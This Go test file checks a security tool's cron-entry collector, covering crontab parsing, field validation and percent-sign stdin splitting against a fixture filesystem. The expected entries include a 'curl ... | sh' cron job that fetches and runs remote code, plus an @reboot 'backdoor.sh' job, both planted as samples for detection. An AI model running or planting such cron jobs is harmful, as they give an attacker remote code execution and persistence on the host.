package cron

import (
	"context"
	"os"
	"reflect"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/hostfs"
	"github.com/vigil-sec/vigil/internal/skipped"
)

func TestCollectFixture(t *testing.T) {
	root, err := hostfs.New("testdata/rootfs")
	if err != nil {
		t.Fatal(err)
	}
	entries, sk, err := Collect(context.Background(), root)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range entries {
		got = append(got, strings.Join([]string{e.File, e.Schedule, e.User, e.Source, e.Command}, " | "))
	}
	want := []string{
		"/etc/crontab | 17 * * * * | root | system | cd / && run-parts --report /etc/cron.hourly",
		"/etc/crontab | 25 6 * * * | root | system | test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
		"/etc/crontab | */5 1-5,22 1 jan-mar,dec mon-fri | www-data | system | /usr/bin/php /var/www/cron.php > /dev/null 2>&1",
		"/etc/crontab | @reboot | root | system | /usr/local/bin/backdoor.sh",
		"/etc/crontab | 0 0 * * 7 | root | system | /bin/date +%Y-%m-%d",
		"/etc/cron.d/php | 09,39 * * * * | root | system | [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
		"/etc/crontabs/root | */15 * * * * | root | user | run-parts /etc/periodic/15min",
		"/etc/crontabs/root | 0 2 * * 6 | root | user | run-parts /etc/periodic/weekly",
		"/var/spool/cron/crontabs/alice | @daily | alice | user | /home/alice/bin/backup",
		"/var/spool/cron/crontabs/alice | */10 * * * * | alice | user | curl -s http://203.0.113.9/x | sh",
		"/etc/cron.daily/logrotate | @daily | root | periodic | /etc/cron.daily/logrotate",
		"/etc/periodic/15min/check | */15 * * * * | root | periodic | /etc/periodic/15min/check",
		"/etc/anacrontab | anacron 1 | root | system | run-parts --report /etc/cron.daily",
		"/etc/anacrontab | anacron 7 | root | system | run-parts --report /etc/cron.weekly",
		"/etc/anacrontab | anacron @monthly | root | system | run-parts --report /etc/cron.monthly",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("entries:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if e := entries[4]; e.Stdin != "first line\nsecond line" || e.Line != 10 {
		t.Errorf("percent entry = %+v", e)
	}
	var lines []int
	for _, l := range sk {
		if l.File == "/etc/crontab" {
			lines = append(lines, l.Line)
		}
	}
	if want := []int{11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21}; !reflect.DeepEqual(lines, want) {
		t.Errorf("skipped crontab lines %v, want %v (all: %v)", lines, want, sk)
	}
	if len(sk) != len(lines)+1 {
		t.Errorf("skipped = %v", sk)
	}
}

func TestCheckField(t *testing.T) {
	tests := []struct {
		f   string
		i   int
		bad bool
	}{
		{"*", 0, false}, {"0", 0, false}, {"59", 0, false}, {"60", 0, true},
		{"*/15", 0, false}, {"1-30/5", 0, false}, {"*/0", 0, true}, {"*/", 0, true},
		{"1,2,,3", 0, true}, {"-1", 0, true}, {"+1", 0, true}, {"007", 0, true},
		{"23", 1, false}, {"24", 1, true},
		{"0", 2, true}, {"31", 2, false},
		{"JAN-Dec", 3, false}, {"0", 3, true}, {"feb,xyz", 3, true},
		{"sun-sat", 4, false}, {"7", 4, false}, {"mon-sun", 4, true}, {"1-5/2", 4, false},
	}
	for _, tt := range tests {
		t.Run(specs[tt.i].name+" "+tt.f, func(t *testing.T) {
			if r := checkField(tt.f, specs[tt.i]); (r != "") != tt.bad {
				t.Errorf("checkField(%q) = %q, want bad=%v", tt.f, r, tt.bad)
			}
		})
	}
}

func TestSplitPercent(t *testing.T) {
	tests := []struct{ in, cmd, stdin string }{
		{"echo hi", "echo hi", ""},
		{`date +\%s`, "date +%s", ""},
		{"mail -s x root%line1%line2", "mail -s x root", "line1\nline2"},
		{`a%b\%c%`, "a", "b%c\n"},
	}
	for _, tt := range tests {
		c, s := splitPercent(tt.in)
		if c != tt.cmd || s != tt.stdin {
			t.Errorf("splitPercent(%q) = %q, %q", tt.in, c, s)
		}
	}
}

func TestLiveHost(t *testing.T) {
	if _, err := os.Stat("/etc/crontab"); err != nil {
		t.Skip("no /etc/crontab")
	}
	entries, sk, err := Collect(context.Background(), hostfs.Live())
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range sk {
		t.Errorf("skipped on live host: %v", l)
	}
	if len(entries) == 0 {
		t.Error("no cron entries on a host with /etc/crontab")
	}
}

func TestUserCrontabNoUserField(t *testing.T) {
	var sk skipped.List
	es := ParseCrontab("u", []byte("0 1 * * * root /bin/x\n"), false, "bob", SourceUser, &sk)
	if len(es) != 1 || es[0].User != "bob" || es[0].Command != "root /bin/x" {
		t.Errorf("got %+v", es)
	}
}
